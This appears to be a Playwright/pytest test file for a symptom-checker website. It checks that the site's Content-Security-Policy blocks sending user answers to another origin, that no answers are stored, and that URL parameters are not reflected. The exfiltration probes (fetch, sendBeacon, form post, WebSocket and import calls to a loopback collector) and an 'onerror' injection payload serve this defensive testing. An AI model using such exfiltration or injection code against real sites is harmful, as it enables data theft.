"""Privacy the browser enforces, in real headless Chromium: the site's
Content-Security-Policy refuses nothing the site does and blocks what a page
could use to send an answer elsewhere; what it does and does not do for the
checker's worker (measured, see the README's privacy section); after a full
check no storage holds an answer and no request carried one; the page's
address never fills in or submits answers; and the build hashes an edited
inline script again.

"Another origin" is 127.0.0.2, still this machine's loopback: a small server
there records whatever reaches it, so a test proves both that the browser
reported a violation and that nothing arrived.
"""

from __future__ import annotations

import functools
import hashlib
import http.server
import io
import json
import re
import threading
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from build_scripts.content_security_policy import META_NAME, read_page, script_hash
from build_scripts.serve import SiteHandler
from build_scripts.site_layout import CACHE_PREFIX
from tests.browser.checker_form import ENGINE_TIMEOUT, enter_answers, see_result, wait_for_engine
from tests.browser.conftest import (
    EDITED_SCRIPT,
    EDITED_TOKEN,
    RUNTIME,
    open_before_the_engine,
)
from tests.browser.test_checker_browser import (
    snapshot_cache_names,
    snapshot_holds,
    wait_for_snapshot,
)
from tests.browser.test_offline_browser import RUNTIME_KEPT, wait_until
from tests.browser.test_site_browser import search_for
from tests.conftest import hold_back, watch_for_csp_violations

pytestmark = pytest.mark.browser

# A full set of answers, distinctive enough to look for wherever something is kept.
ANSWERS = {"hours_since_massage": 43, "severity": 7, "massage_type": "sports",
           "pain_areas": ["ribs"], "trend": "worse", "night_pain": True}


def answer_texts() -> list[str]:
    """Return each answer's field name and value as text, to look for in storage."""
    texts = []
    for field, value in ANSWERS.items():
        texts.append(field)
        values = value if isinstance(value, list) else [value]
        texts += [str(each) for each in values if not isinstance(each, bool)]
    return texts


def site_policy(site: Path) -> str:
    return read_page((site / "index.html").read_text(encoding="utf-8")).policies[0]


# ---------------------------------------------------------------------------
# Another origin on loopback, recording what reaches it

class Collector:
    """A server on 127.0.0.2 that records every request and answers each with a
    tiny JavaScript module (CORS allowed), so that only the policy stops a request."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, bytes]] = []  # (method, path, body)
        collector = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the base class's name
                self.record()

            def do_POST(self) -> None:  # noqa: N802 - the base class's name
                self.record()

            def record(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                collector.requests.append((self.command, self.path, body))
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"export const received = true;")

            def log_message(self, format, *args):  # noqa: A002 - the base class's name
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.origin = f"http://127.0.0.2:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def paths(self) -> list[str]:
        return [path for _, path, _ in self.requests]

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def collector():
    server = Collector()
    yield server
    server.stop()


# ---------------------------------------------------------------------------
# The built site on a server that records each request, can serve extra probe
# files (as the site's own, same-origin files), and can send a policy header

class RecordingSite:
    def __init__(self, site: Path) -> None:
        self.site = site
        self.requests: list[tuple[str, str]] = []  # (method, path)
        self.extra_files: dict[str, tuple[str, str]] = {}  # path -> (content type, text)
        self.policy_headers: dict[str, str] = {}  # path -> policy sent with it
        # Files held back until the server stops (tests/conftest.py's hold_back): a probe
        # of the page's policy needs no engine starting beside it.
        self.stall: set[str] = set()
        self.released = threading.Event()
        recording = self

        class Handler(SiteHandler):
            def send_head(self):
                path = self.path.split("?", 1)[0]
                hold_back(path, recording.stall, recording.released)
                if path not in recording.extra_files:
                    return super().send_head()
                content_type, text = recording.extra_files[path]
                body = text.encode("utf-8")
                self.send_response(200)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                return io.BytesIO(body)

            def end_headers(self) -> None:
                policy = recording.policy_headers.get(self.path.split("?", 1)[0])
                if policy:
                    self.send_header("Content-Security-Policy", policy)
                super().end_headers()

            def log_request(self, code="-", size="-") -> None:
                recording.requests.append((self.command, self.path))

        handler = functools.partial(Handler, directory=str(site), base="/", quiet=True)
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.released.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def recording_site(built_site):
    server = RecordingSite(built_site)
    yield server
    server.stop()


# A page of the same origin that carries no policy: the control for the probes.
BLANK_PAGE = "/probe/blank.html"
BLANK_HTML = "<!doctype html><html><head><meta charset=utf-8></head><body></body></html>"


def probe_worker(origin: str) -> str:
    """Return a module worker that tries every way to send "answers" to ``origin``
    and posts back what happened, with the violations reported inside it."""
    return f"""
const outcome = {{ violations: [] }};
self.addEventListener("securitypolicyviolation", (event) =>
  outcome.violations.push(`${{event.effectiveDirective}} ${{event.blockedURI}}`));
async function attempt(name, action) {{
  try {{ await action(); outcome[name] = "done"; }} catch (error) {{ outcome[name] = "refused"; }}
}}
await attempt("fetch", () => fetch("{origin}/worker-fetch?severity=9"));
await attempt("post", () => fetch("{origin}/worker-post", {{method: "POST", body: "severity=9"}}));
await attempt("import", () => import("{origin}/worker-import.mjs"));
try {{ new WebSocket("{origin.replace("http:", "ws:")}/worker-socket"); }} catch (error) {{}}
await attempt("eval", () => eval("1 + 1"));
await attempt("wasm", () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
await new Promise((resolve) => setTimeout(resolve, 300));
postMessage(outcome);
"""


RUN_WORKER = """(url) => new Promise((resolve) => {
    const worker = new Worker(url, { type: "module" });
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = (event) => { event.preventDefault(); resolve("failed to start"); };
})"""


def own_context(chromium, violations: list[str]):
    """A context of its own, for probes that do reach the other origin (the
    ``page`` fixture fails a test whose requests leave 127.0.0.1)."""
    context = chromium.new_context()
    watch_for_csp_violations(context, violations)
    return context


# ---------------------------------------------------------------------------
# Normal use refuses nothing

@pytest.mark.parametrize("served", ["site_url", "sub_path_site_url"], ids=["root", "sub-path"])
def test_normal_use_logs_no_violation(page, request, served, built_site, csp_violations):
    url = request.getfixturevalue(served)
    page.goto(url)
    policy = page.locator(f"meta[http-equiv='{META_NAME}']").get_attribute("content")
    assert policy.startswith("default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-")
    if served == "site_url":
        assert policy == site_policy(built_site)
    page.evaluate("window.__sameDocument = true")
    page.locator("article a[href$='warning-signs/']").first.click()  # instant navigation
    page.locator("#saddle-numbness").wait_for()
    assert page.evaluate("window.__sameDocument") is True
    page.locator("article abbr").first.hover()  # a glossary tooltip
    search_for(page, "fever", expect="warning-signs/")
    page.keyboard.press("Escape")
    for _ in range(3):  # dark mode, system, light
        page.locator("form[data-md-component='palette'] label:not([hidden])").click()
    page.goto(url)
    page.locator("article a[href$='checker/']").first.click()
    # Material's navigation.tracking may add the first section's #anchor at once.
    page.wait_for_url(lambda address: urlsplit(address).path.endswith("/checker/"),
                      timeout=ENGINE_TIMEOUT)
    wait_for_engine(page)
    enter_answers(page, ANSWERS)
    result = see_result(page)
    assert result.get_attribute("data-level") == "doctor"
    # The result's links lead within the copy of the site the reader is on.
    hrefs = result.locator("a").evaluate_all(
        "links => links.map(link => new URL(link.getAttribute('href'), location.href).href)")
    assert hrefs, "the result has no links"
    for href in hrefs:
        assert href.startswith(url), href
    page.wait_for_timeout(500)  # let any late report arrive
    assert csp_violations == []


# ---------------------------------------------------------------------------
# What the page's policy blocks

SEND_FROM_THE_PAGE = """(origin) => {
    fetch(`${origin}/page-fetch?severity=9`).catch(() => {});
    navigator.sendBeacon(`${origin}/page-beacon`, "severity=9");
    const image = new Image();
    image.src = `${origin}/page-image?severity=9`;
    const script = document.createElement("script");
    script.src = `${origin}/page-script.js`;
    document.head.append(script);
    const form = document.createElement("form");
    form.method = "post";
    form.action = `${origin}/page-form`;
    form.innerHTML = '<input name="severity" value="9">';
    document.body.append(form);
    form.submit();
}"""


# The probes below are of the policy of the checker page, where the answers are: its
# engine's runtime is held back, so that no engine starts beside them.


def test_the_page_cannot_send_to_another_origin(page, own_site_host, collector, csp_violations,
                                                requests_made):
    site_url = own_site_host.url
    failures: dict[str, str | None] = {}
    page.on("requestfailed", lambda request: failures.update({request.url: request.failure}))
    open_before_the_engine(page, own_site_host, "checker/")
    page.evaluate(SEND_FROM_THE_PAGE, collector.origin)
    expected = {f"connect-src {collector.origin}/page-fetch?severity=9",
                f"connect-src {collector.origin}/page-beacon",
                f"img-src {collector.origin}/page-image?severity=9",
                f"script-src-elem {collector.origin}/page-script.js",
                f"form-action {collector.origin}/page-form"}
    for _ in range(50):  # the reports arrive within moments
        if expected <= set(csp_violations):
            break
        page.wait_for_timeout(100)
    assert expected <= set(csp_violations), csp_violations
    assert any(report.startswith("console: ") for report in csp_violations)
    assert collector.requests == []
    assert page.url == site_url + "checker/"  # the form post went nowhere
    # Playwright lists the image and the script as requests that failed, refused by
    # the policy before they left the browser (the collector above saw nothing).
    refused = [url for url in requests_made.urls if url.startswith(collector.origin)]
    assert refused and all(failures.get(url) == "csp" for url in refused), failures
    requests_made.urls = [url for url in requests_made.urls if url not in refused]
    csp_violations.clear()


def test_the_page_cannot_start_a_worker_from_a_blob_or_data_url(page, own_site_host,
                                                                 csp_violations):
    open_before_the_engine(page, own_site_host, "checker/")
    page.evaluate("""() => {
        new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
        new Worker("data:text/javascript,postMessage(1)");
    }""")
    page.wait_for_timeout(300)
    assert {"worker-src blob", "worker-src data"} <= set(csp_violations)
    csp_violations.clear()


# ---------------------------------------------------------------------------
# The checker's worker: what reaches it, measured

def test_a_module_workers_static_imports_are_held_to_the_page_policy(
        chromium, recording_site, collector, csp_violations):
    recording_site.extra_files["/probe/imports.mjs"] = (
        "text/javascript", f'import "{collector.origin}/static-import.mjs"; postMessage("ran");')
    recording_site.extra_files[BLANK_PAGE] = ("text/html", BLANK_HTML)
    context = own_context(chromium, csp_violations)
    page = context.new_page()
    # Chromium reports this refusal in the worker's log, which only the
    # DevTools protocol shows.
    log: list[str] = []
    devtools = context.new_cdp_session(page)
    devtools.send("Log.enable")
    devtools.on("Log.entryAdded", lambda event: log.append(event["entry"]["text"]))

    page.goto(recording_site.url)  # a page of the site, with its policy
    assert page.evaluate(RUN_WORKER, "/probe/imports.mjs") == "failed to start"
    page.wait_for_timeout(300)
    assert collector.requests == []
    assert any(f"{collector.origin}/static-import.mjs" in line and "worker-src 'self'" in line
               for line in log), log

    page.goto(recording_site.url + BLANK_PAGE[1:])  # the control: no policy, it runs
    assert page.evaluate(RUN_WORKER, "/probe/imports.mjs") == "ran"
    assert collector.paths() == ["/static-import.mjs"]
    context.close()


def test_known_limit_the_workers_own_requests_are_not_held_to_the_page_policy(
        chromium, recording_site, collector, csp_violations):
    """A dedicated worker takes its policy from its own script's response, never
    from the page's meta tag; GitHub Pages sends none. So code running in the
    checker's worker could send to any host: only the site's own code runs there."""
    recording_site.extra_files["/probe/worker.mjs"] = (
        "text/javascript", probe_worker(collector.origin))
    recording_site.stall = {RUNTIME}
    context = own_context(chromium, csp_violations)
    page = context.new_page()
    # The page's policy is in force.
    page.goto(recording_site.url + "checker/", wait_until="domcontentloaded")
    outcome = page.evaluate(RUN_WORKER, "/probe/worker.mjs")
    context.close()
    assert outcome == {"fetch": "done", "post": "done", "import": "done", "eval": "done",
                       "wasm": "done", "violations": []}
    assert sorted(collector.requests) == sorted([
        ("GET", "/worker-fetch?severity=9", b""), ("POST", "/worker-post", b"severity=9"),
        ("GET", "/worker-import.mjs", b""), ("GET", "/worker-socket", b"")])
    assert csp_violations == []


def test_a_worker_served_with_the_policy_as_a_header_is_held_to_it(
        chromium, recording_site, collector, built_site, csp_violations):
    """What a host that can send headers would give: the same policy then
    governs the worker (Playwright's routing cannot show this: Chromium ignores
    a policy header in a routed worker response, so a real server sends it)."""
    recording_site.extra_files["/probe/worker.mjs"] = (
        "text/javascript", probe_worker(collector.origin))
    recording_site.policy_headers["/probe/worker.mjs"] = site_policy(built_site)
    recording_site.stall = {RUNTIME}
    context = own_context(chromium, csp_violations)
    page = context.new_page()
    page.goto(recording_site.url + "checker/", wait_until="domcontentloaded")
    outcome = page.evaluate(RUN_WORKER, "/probe/worker.mjs")
    context.close()
    socket = collector.origin.replace("http:", "ws:")
    assert sorted(outcome["violations"]) == sorted([
        f"connect-src {collector.origin}/worker-fetch?severity=9",
        f"connect-src {collector.origin}/worker-post",
        f"script-src-elem {collector.origin}/worker-import.mjs",
        f"connect-src {socket}/worker-socket",
        "script-src eval"])
    assert [outcome[name] for name in ("fetch", "post", "import", "eval")] == ["refused"] * 4
    assert outcome["wasm"] == "done"  # 'wasm-unsafe-eval'
    assert collector.requests == []


def test_the_engine_runs_with_the_site_policy_applied_to_its_worker(page, recording_site,
                                                                     built_site):
    """Pyodide needs 'wasm-unsafe-eval' and no 'unsafe-eval': under the site's own
    policy, as a browser that applied it to the worker would, the checker works."""
    recording_site.policy_headers["/assets/javascripts/checker-worker.mjs"] = \
        site_policy(built_site)
    for visit in ("first, an ordinary start", "again, restored from the snapshot"):
        page.goto(recording_site.url + "checker/")
        wait_for_engine(page)
        result = page.evaluate(
            "() => window.checker.assess({hours_since_massage: 43, severity: 7})")
        assert result["level"] == "doctor", visit
        snapshot = page.evaluate("() => window.checkerStartup.snapshot")
        assert snapshot is visit.startswith("again"), visit
        if not snapshot:
            assert wait_for_snapshot(page)["kept"] is True


# A service worker that gives one worker script the site's policy as a header.
POLICY_GIVING_SERVICE_WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  if (!event.request.url.endsWith("/probe/worker.mjs")) return;
  event.respondWith(fetch(event.request).then(async (response) => new Response(
    await response.text(),
    { headers: { "Content-Type": "text/javascript", "Content-Security-Policy": POLICY } })));
});
"""


def test_a_service_worker_can_give_the_worker_a_policy(chromium, recording_site, collector,
                                                       built_site, csp_violations):
    """What the platform allows without headers: a response made by a service
    worker carries a policy to the worker, but only once the service worker
    controls the page (not on a first visit, nor after a hard reload)."""
    policy = site_policy(built_site)
    recording_site.extra_files["/probe/sw.js"] = (
        "text/javascript", f"const POLICY = {policy!r};" + POLICY_GIVING_SERVICE_WORKER)
    recording_site.extra_files["/probe/worker.mjs"] = (
        "text/javascript", probe_worker(collector.origin))
    recording_site.extra_files[BLANK_PAGE] = ("text/html", BLANK_HTML)
    context = own_context(chromium, csp_violations)
    page = context.new_page()
    page.goto(recording_site.url + BLANK_PAGE[1:])
    page.evaluate("() => navigator.serviceWorker.register('/probe/sw.js')"
                  ".then(() => navigator.serviceWorker.ready)")
    page.wait_for_function("() => navigator.serviceWorker.controller !== null")
    outcome = page.evaluate(RUN_WORKER, "/probe/worker.mjs")
    context.close()
    assert [outcome[name] for name in ("fetch", "post", "import", "eval")] == ["refused"] * 4
    assert collector.requests == []


# Run inside a worker: try to send "answers" to another origin three ways, and say
# what happened, with the violations the worker reported.
PROBE_IN_WORKER = """async (origin) => {
    const violations = [];
    self.addEventListener("securitypolicyviolation", (event) =>
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
    const attempt = (action) => action().then(() => "done", () => "refused");
    const outcome = {
        fetch: await attempt(() => fetch(origin + "/engine-fetch?severity=9")),
        post: await attempt(() => fetch(origin + "/engine-post",
                                         {method: "POST", body: "severity=9"})),
        import: await attempt(() => import(origin + "/engine-import.mjs")),
    };
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {...outcome, violations};
}"""


def engine_worker(page):
    return next(worker for worker in page.workers if worker.url.endswith("/checker-worker.mjs"))


def test_once_the_site_service_worker_controls_the_page_the_engine_is_held_to_the_policy(
        chromium, recording_site, collector, csp_violations):
    """The site's own service worker gives its worker scripts the site's policy as a
    header. On a first visit it does not control the page yet, and the engine's
    worker runs with no policy (the known limit above); on the next visit the same
    worker is held to the policy, and the checker still answers."""
    context = own_context(chromium, csp_violations)
    page = context.new_page()
    page.goto(recording_site.url + "checker/")
    wait_for_engine(page)
    first = engine_worker(page).evaluate(PROBE_IN_WORKER, collector.origin)
    assert first["fetch"] == "done" and first["violations"] == []
    page.wait_for_function("() => navigator.serviceWorker.controller !== null")
    collector.requests.clear()

    page.reload()
    wait_for_engine(page)
    result = page.evaluate("() => window.checker.assess({hours_since_massage: 43, severity: 7})")
    assert result["level"] == "doctor"
    again = engine_worker(page).evaluate(PROBE_IN_WORKER, collector.origin)
    context.close()
    assert [again[name] for name in ("fetch", "post", "import")] == ["refused"] * 3
    assert sorted(again["violations"]) == sorted([
        f"connect-src {collector.origin}/engine-fetch?severity=9",
        f"connect-src {collector.origin}/engine-post",
        f"script-src-elem {collector.origin}/engine-import.mjs"])
    assert collector.requests == []
    assert csp_violations == []


# ---------------------------------------------------------------------------
# After a full check: nothing kept, nothing sent

STORED = """async () => ({
    local: Object.entries(localStorage),
    session: Object.entries(sessionStorage),
    databases: (await indexedDB.databases()).map((database) => database.name),
    files: await (async () => {
        const names = [];
        for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name);
        return names;
    })(),
})"""

# Every Cache Storage entry: its cache, its URL and the sha256 of its body.
CACHED = """async () => {
    const entries = [];
    for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
            const body = await (await cache.match(request)).arrayBuffer();
            const digest = await crypto.subtle.digest("SHA-256", body);
            entries.push([name, request.url, [...new Uint8Array(digest)]
                .map((byte) => byte.toString(16).padStart(2, "0")).join("")]);
        }
    }
    return entries;
}"""


def answer_fragments() -> list[str]:
    """Return each answer as the page sends it to the engine (JSON, no spaces)."""
    return [json.dumps({field: value}, separators=(",", ":"))[1:-1]
            for field, value in ANSWERS.items()]


def site_file(site: Path, url: str, root: str) -> Path:
    relative = url[len(root):]
    path = site / relative
    return path / "index.html" if relative == "" or relative.endswith("/") else path


def test_after_a_full_check_nothing_holds_an_answer_and_none_was_sent(page, recording_site,
                                                                       built_site):
    page.goto(recording_site.url)
    # Material keeps the colour scheme chosen: the storage checks below must see its keys.
    page.locator("form[data-md-component='palette'] label:not([hidden])").click()
    page.goto(recording_site.url + "checker/")
    wait_for_engine(page)
    enter_answers(page, ANSWERS)
    result = see_result(page)
    assert result.get_attribute("data-level") == "doctor"
    headline = result.locator("#checker-headline").inner_text()
    engine = json.loads((built_site / "pyodide" / "engine.json").read_text())
    runtime = [name for names in engine["files"].values() for name in names]
    wait_until(page, RUNTIME_KEPT, runtime)  # the service worker has kept what it keeps
    assert wait_for_snapshot(page)["kept"] is True

    assert page.context.cookies() == []
    stored = page.evaluate(STORED)
    assert stored["databases"] == [] and stored["files"] == []
    kept = stored["local"] + stored["session"]
    assert any("__palette" in key for key, _ in kept)  # the check below sees Material's keys
    for key, value in kept:
        assert re.search(r"\.__[a-z]+$", key), key  # Material's own keys only
        for text in [*answer_texts(), headline]:
            assert text not in key and text not in value, (key, value)

    cached = page.evaluate(CACHED)
    assert len(cached) > 30
    snapshots = [url for cache, url, _ in cached if snapshot_cache_names([cache])]
    assert len(snapshots) == 1  # the engine's snapshot: made before any answer, so none in it
    # A question's id is in it (the engine's own data), no answer is.
    found = snapshot_holds(page, ["saddle_numbness", *answer_fragments()])
    assert found == ["saddle_numbness"]
    for cache, url, digest in cached:
        assert cache.startswith(CACHE_PREFIX)
        if snapshot_cache_names([cache]):
            continue
        assert "?" not in url and "#" not in url and url.startswith(recording_site.url), url
        file = site_file(built_site, url, recording_site.url)
        # Byte for byte the file the build wrote, before anyone answered anything.
        assert digest == hashlib.sha256(file.read_bytes()).hexdigest(), url

    assert recording_site.requests, "the server saw no request"
    for method, path in recording_site.requests:
        assert method == "GET" and "?" not in path, (method, path)


# ---------------------------------------------------------------------------
# The page's address never fills in or submits answers

FORM_STATE = """() => [...document.querySelectorAll("#checker-form input")]
    .map((input) => [input.name, input.value, input.checked])"""

# The mark is what is looked for: the page's own scripts may say "onerror".
MARK = "hostile-4242"
HOSTILE = f"<img src=x onerror=alert('{MARK}')>"

# Every attribute whose value carries the hostile parameter, as [tag, name, value].
ATTRIBUTES_CARRYING = """(text) => [...document.querySelectorAll("*")].flatMap((element) =>
    [...element.attributes].filter((attribute) => attribute.value.includes(text))
        .map((attribute) => [element.tagName, attribute.name, attribute.value]))"""


def assert_not_reflected(page) -> None:
    """Assert the hostile parameter made no element and no text. Material's
    instant navigation writes the page's own address into its in-page links
    (href="<address>#section"), percent-encoded: that is the only place it may be."""
    assert page.locator("img[src='x']").count() == 0
    assert MARK not in page.evaluate("document.documentElement.textContent")
    address = page.url.split("#", 1)[0]
    for tag, name, value in page.evaluate(ATTRIBUTES_CARRYING, MARK):
        assert (tag, name) == ("A", "href") and value.startswith(address + "#"), (tag, name, value)
        assert "<" not in value and " " not in value, value


def test_the_address_never_fills_in_or_submits_answers(page, site_url):
    page.goto(site_url + "checker/")
    wait_for_engine(page)
    untouched = page.evaluate(FORM_STATE)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    page.goto(site_url + "checker/?severity=9&hours_since_massage=20&saddle_numbness=true"
              f"&trend=worse&submit=1&x={HOSTILE}#severity=9&hours_since_massage=20&{HOSTILE}")
    wait_for_engine(page)
    page.wait_for_timeout(500)
    assert page.evaluate(FORM_STATE) == untouched
    assert page.locator("#checker-result").is_hidden()
    assert page.locator("#checker-result[data-level]").count() == 0
    assert page.locator("#checker-emergency-alert").is_hidden()
    assert_not_reflected(page)
    assert dialogs == []


def test_an_unknown_parameter_is_not_reflected_into_an_article(page, site_url):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(site_url + f"warning-signs/?x={HOSTILE}&h={HOSTILE}#{HOSTILE}")
    page.locator("#saddle-numbness").wait_for()
    page.wait_for_timeout(500)
    assert_not_reflected(page)
    assert dialogs == []


def test_snapshot_off_only_changes_how_the_engine_starts(page, site_url):
    page.goto(site_url + "checker/")
    wait_for_engine(page)
    untouched = page.evaluate(FORM_STATE)
    page.goto(site_url + "checker/?snapshot=off")
    wait_for_engine(page)
    assert page.evaluate("() => window.checkerStartup.snapshot") is False
    assert page.evaluate(FORM_STATE) == untouched
    assert page.locator("#checker-result").is_hidden()


# ---------------------------------------------------------------------------
# Each build hashes the inline scripts anew

def test_an_edited_inline_script_is_hashed_again_by_the_next_build(page, own_site_host,
                                                                    pages_changed_site,
                                                                    built_site, csp_violations):
    # A build whose page template has a new inline script, deployed at the same address.
    site = pages_changed_site
    own_site_host.deploy(site)
    url = own_site_host.url
    assert script_hash(EDITED_SCRIPT) in site_policy(site)
    assert script_hash(EDITED_SCRIPT) not in site_policy(built_site)

    # The control: the changed page under the earlier build's policy refuses the
    # script (first, before a service worker answers in place of the routing).
    def with_old_policy(route):
        html = route.fetch().text()
        route.fulfill(body=html.replace(site_policy(site), site_policy(built_site)),
                      content_type="text/html")

    page.route(url, with_old_policy)
    page.goto(url)
    assert page.evaluate("document.documentElement.dataset.editedScript") is None
    page.wait_for_timeout(300)
    events = [report for report in csp_violations if not report.startswith("console: ")]
    assert events == ["script-src-elem inline"]  # that script, and nothing else
    csp_violations.clear()
    page.unroute(url)

    for path in ("", "warning-signs/", "checker/"):
        page.goto(url + path)
        assert page.evaluate("document.documentElement.dataset.editedScript") == EDITED_TOKEN
    wait_for_engine(page)  # and the engine still starts
    assert csp_violations == []
